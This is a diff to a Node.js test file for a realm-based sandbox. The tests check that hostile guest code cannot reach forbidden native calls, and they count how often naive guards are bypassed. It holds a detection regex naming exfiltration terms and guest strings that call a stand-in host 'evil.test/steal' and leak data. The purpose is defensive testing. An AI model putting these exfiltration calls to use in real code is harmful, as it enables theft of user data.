@@ -1,23 +1,35 @@
 /** Hostile guests in realms of their own (threat classes O, U, S, P): nothing forbidden reaches the native side. */
 import assert from "node:assert/strict";
-import test from "node:test";
+import test, { after } from "node:test";
 import { attacks } from "./attacks.js";
+import { BITES } from "./bites.js";
 import { runGuest } from "./guest.js";
 import { policy } from "./host.js";
+import { escaped, isForbidden, isTold } from "./verdict.js";
+import { writeTally } from "../../escape/tally.js";
 
-/** What no guest may bring about under this policy. */
-const isForbidden = (line) => /evil|secretapi|payDirect|hiddenDoor|leaked|debugInstall|unloc/i.test(line) || /TINY|a\/b|\((?:call|toString|constructor|__proto__)\)/.test(line);
+const tallies = [];
+after(() => writeTally("node", tallies));
 
 for (const [name, rows] of Object.entries(attacks)) {
   test(name, { concurrency: 2 }, async (t) => {
-    await Promise.all(rows.map((row) => t.test(row.say, async () => {
+    const tally = { name: `${name}, Node`, attempts: 0, bites: 0, stopped: 0, impossible: [], controls: 0 };
+    tallies.push(tally);
+    await Promise.all(rows.map((row, i) => t.test(row.say, async () => {
+      if (row.control) tally.controls += 1;
+      else {
+        tally.attempts += 1;
+        assert.ok(escaped(row, await runGuest({ ...row, by: BITES[name][i] })), `must get past the naive guard \`${BITES[name][i]}\``);
+        tally.bites += 1;
+      }
       const { wire, said, errors } = await runGuest(row);
       assert.deepEqual(wire.filter(isForbidden), [], row.guest);
       if (row.honest) assert.deepEqual(wire, row.honest, `honest calls: ${row.guest}\n${said}`);
       if (row.wire) assert.deepEqual(wire.filter((line) => !isForbidden(line)), row.wire, `${row.guest}\n${said}`);
       if (row.said) assert.deepEqual(said.filter((line) => line !== "unhandled rejection"), row.said);
-      if (row.silent) assert.deepEqual(said.filter((line) => /leak|species|trap|memory|write|ctor|apply/.test(line)), []);
+      if (row.silent) assert.deepEqual(said.filter(isTold), []);
       if (row.say !== "a full stack fails closed") assert.deepEqual(errors, []);
+      if (!row.control) tally.stopped += 1;
     })));
   });
 }
@@ -56,7 +68,16 @@ test("a policy swapped after the realm was poisoned is read by the engine alone"
   assert.ok(said.includes("updated"), said.join());
 });
 
+/** The honest and the forbidden calls of the poisoned rows, without poison. */
+const duty = "my.request({ url: EVIL }); my.request({ url: GOOD }); my.call('secretApi'); my.call('tinyToNative'); my.request({ url: GOOD, headers: { Host: 'evil.test' } });";
+test("the naive guards do their duty while nothing is poisoned", { concurrency: 2 }, async (t) => {
+  await Promise.all([...new Set(BITES.poison)].filter((by) => by !== null).map((by) => t.test(by, async () => {
+    const { wire } = await runGuest({ guest: duty, by });
+    assert.deepEqual(wire.toSorted(), ["call(tinyToNative)", "request https://api.good.test/v1"]);
+  })));
+});
+
 test("the recorder sees what an unguarded realm would do", async () => {
-  const { wire } = await runGuest({ guest: "my.request({ url: EVIL }); my.payDirect(); my.request({ url: GOOD, success() { this.send('x'); } });", bare: true });
+  const { wire } = await runGuest({ guest: "my.request({ url: EVIL }); my.payDirect(); my.request({ url: GOOD, success() { this.send('x'); } });", by: "nobody" });
   assert.deepEqual(wire, ["request https://evil.test/steal", "payDirect", "request https://api.good.test/v1", "leaked x"]);
 });
